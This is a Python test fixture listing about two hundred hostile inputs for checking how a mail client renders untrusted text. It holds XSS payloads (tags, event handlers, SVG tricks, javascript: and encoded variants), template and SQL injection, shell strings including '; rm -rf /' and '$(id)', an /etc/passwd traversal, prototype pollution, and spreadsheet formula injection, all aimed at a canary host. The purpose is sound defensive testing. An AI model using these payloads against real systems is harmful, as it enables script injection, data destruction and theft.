# SPDX-License-Identifier: BSD-2-Clause
"""Two hundred texts that somebody might put into a mail to do something to whoever looks at it.

Each that would run as a script sets window.__hit, and each that would fetch something fetches it
from CANARY, a name that the browser of the tests leads to a server of ours."""

CANARY = "canary.example"
RUN = "window.__hit=1"
FETCH = f"http://{CANARY}/hit"

MARKUP = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0c>{RUN}</script\x0c>",
    f"<script/x>{RUN}</script/x>",
    f"<script src={FETCH}></script>",
    f"<script src=//{CANARY}/hit></script>",
    f"<script type=module>{RUN}</script>",
    f"<script async defer src={FETCH}>",
    f"</script><script>{RUN}</script>",
    f"--></script><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"</select><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror=`{RUN}`>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src={FETCH}>",
    f"<img srcset={FETCH}>",
    f"<image src=x onerror={RUN}>",
    f"<picture><source srcset={FETCH}><img></picture>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href={FETCH} /></svg>",
    f"<svg><a href=javascript:{RUN}><text x=9 y=9>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN}>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><use href={FETCH}#x /></svg>",
    f"<svg><image href={FETCH} /></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<body background={FETCH}>",
    f"<frameset onload={RUN}>",
    f"<iframe src=javascript:{RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN.replace('window.', '')}</script>'>",
    f"<iframe src={FETCH}></iframe>",
    f"<iframe onload={RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<object data={FETCH} type=text/html>",
    f"<embed src=javascript:{RUN}>",
    f"<embed src={FETCH}>",
    f"<applet code={FETCH}>",
    f"<audio src=x onerror={RUN}>",
    f"<video src={FETCH} autoplay onloadstart={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<video poster={FETCH}>",
    f"<input autofocus onfocus={RUN}>",
    f"<input type=image src={FETCH} onerror={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<dialog open onclose={RUN}>x</dialog>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div style='width:9999px' onmouseover={RUN}>x</div>",
    f"<div onpointerover={RUN} style=position:fixed;inset:0>x</div>",
    f"<div style=animation-name:x onanimationstart={RUN}>x</div>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>click</a>",
    f"<a href='{FETCH}' target=_top ping={FETCH}>click</a>",
    f"<form action={FETCH}><button>send</button></form>",
    f"<form><button formaction=javascript:{RUN}>send</button></form>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<base href=http://{CANARY}/>",
    f"<base target=_blank>",
    f"<link rel=stylesheet href={FETCH}>",
    f"<link rel=prefetch href={FETCH}>",
    f"<link rel=preconnect href=http://{CANARY}>",
    f"<link rel=icon href={FETCH}>",
    f"<meta http-equiv=refresh content='0;url={FETCH}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<style>@import '{FETCH}';</style>",
    f"<style>*{{background:url({FETCH})}}</style>",
    "<style>*{display:none!important}</style>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<x onclick={RUN} tabindex=1 autofocus onfocus={RUN} contenteditable>x",
    f"<xss id=x tabindex=1 onfocusin={RUN}></xss>",
    f"<table background={FETCH}><td>x",
    "</div></div></article></main></body></html>",
    "<h1>Your password has expired</h1>",
    "<!--", "-->", "<![CDATA[", "<?php echo 1 ?>", "<%= 1 %>", "<!DOCTYPE html>", "<plaintext>", "<xmp>",
    "<", ">", "<>", "</", "<a", "<3 you & me",
]

QUOTES = [
    f"' onmouseover='{RUN}", f'" onmouseover="{RUN}', f"\" autofocus onfocus={RUN} x=\"",
    f"'><script>{RUN}</script>", f'"><script>{RUN}</script>', f"`><script>{RUN}</script>",
    f"';{RUN};'", f'";{RUN};"', f"`;{RUN};`", f"\\';{RUN};//", f'\\";{RUN};//', f"*/{RUN}/*", f"//{RUN}",
    f"}});{RUN};({{", f"${{{RUN}}}", f"#{{{RUN}}}", f"{{{{{RUN}}}}}", f"<%={RUN}%>",
    "{{constructor.constructor('" + RUN + "')()}}", "{{7*7}}", "${7*7}", "{% 7*7 %}", "[[7*7]]", "{server}",
    "{recipient}", "{0}", "%s%s%n", "%(x)s", "$(id)", "`id`", "$HOME", "; rm -rf /", "' OR 1=1 --",
    '"}],"object":"problem","x":[{"', '{"__proto__":{"__hit":1}}', "__proto__", "constructor", "toString",
    "hasOwnProperty", "null", "undefined", "NaN", "true", "[object Object]",
]

LINKS = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"jav&#x09;ascript:{RUN}",
    f"javascript://%0a{RUN}", f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==", f"blob:{FETCH}", FETCH,
    f"//{CANARY}/hit", f"\\\\{CANARY}\\hit", "../../../../etc/passwd", "/api/v1/session?x=#/mail/",
    f"url({FETCH})", f"expression({RUN})", f"background:url(javascript:{RUN})",
    f"-moz-binding:url({FETCH})", "position:fixed;inset:0;background:red", "@import '//" + CANARY + "/hit'",
]

ENTITIES = [
    "&lt;script&gt;" + RUN + "&lt;/script&gt;", "&#60;script&#62;" + RUN, "&#x3c;img src=x onerror=" + RUN + "&#x3e;",
    "&amp;lt;b&amp;gt;", "&nbsp;&copy;&#0;&#xD800;&#x110000;", "&", "&&&", "\\u003cscript\\u003e" + RUN,
    "\\x3cscript\\x3e" + RUN, "%3Cscript%3E" + RUN + "%3C/script%3E", "+ADw-script+AD4-" + RUN,
    "=?utf-8?q?=3Cscript=3Ewindow.=5F=5Fhit=3D1=3C/script=3E?=",
    "=?utf-8?b?PGltZyBzcmM9eCBvbmVycm9yPXdpbmRvdy5fX2hpdD0xPg==?=",
    "=?utf-7?q?+ADw-script+AD4-?=", "=?x-nothing?b?////?=", "=?utf-8?b?!!!?=",
]

LETTERS = [
    "\u202egnp.exe\u202c", "a\u2066b\u2067c\u2068d", "\u200f\u05d0\u05d1 abc \u200e", "\u0645\u0631\u062d\u0628\u0627 <b>",
    "zero\u200bwidth\u200cjoin\u200d\ufeff", "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f4\U000e0067\U000e0062",
    "e" + 60 * "\u0301", "Z" + 30 * "\u0336\u0337", "\uff1cscript\uff1e" + RUN + "\uff1c/script\uff1e",
    "\u2028" + RUN + "\u2029", "\ufdd0\ufffe\uffff", "\u0130\u0131\u1e9e\ufb03", "\u3000\u00a0\u2003x", 40 * "\U0001f480",
]

SHEETS = ["=1+1", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1)", f'=HYPERLINK("{FETCH}","x")', "\t=1+1", "1,2;3"]

LONG = ["x" * 900, "<b>" * 250, "W" * 60 + "@" + "W" * 60, "a " * 400]

PAYLOADS = [*MARKUP, *QUOTES, *LINKS, *ENTITIES, *LETTERS, *SHEETS, *LONG]

# What is no text at all, for places that take bytes.
BYTES = [b"\xff\xfe<script>" + RUN.encode() + b"</script>", b"\xc0\xbcscript\xc0\xbe", b"\xed\xa0\x80<b>", b"\xf4\x90\x80\x80",
         b"a\x00b", b"\x1b[2J\x1b[31m\x07\x08\x7f", b"\x80\x81\x82", b"\xe2\x80"]
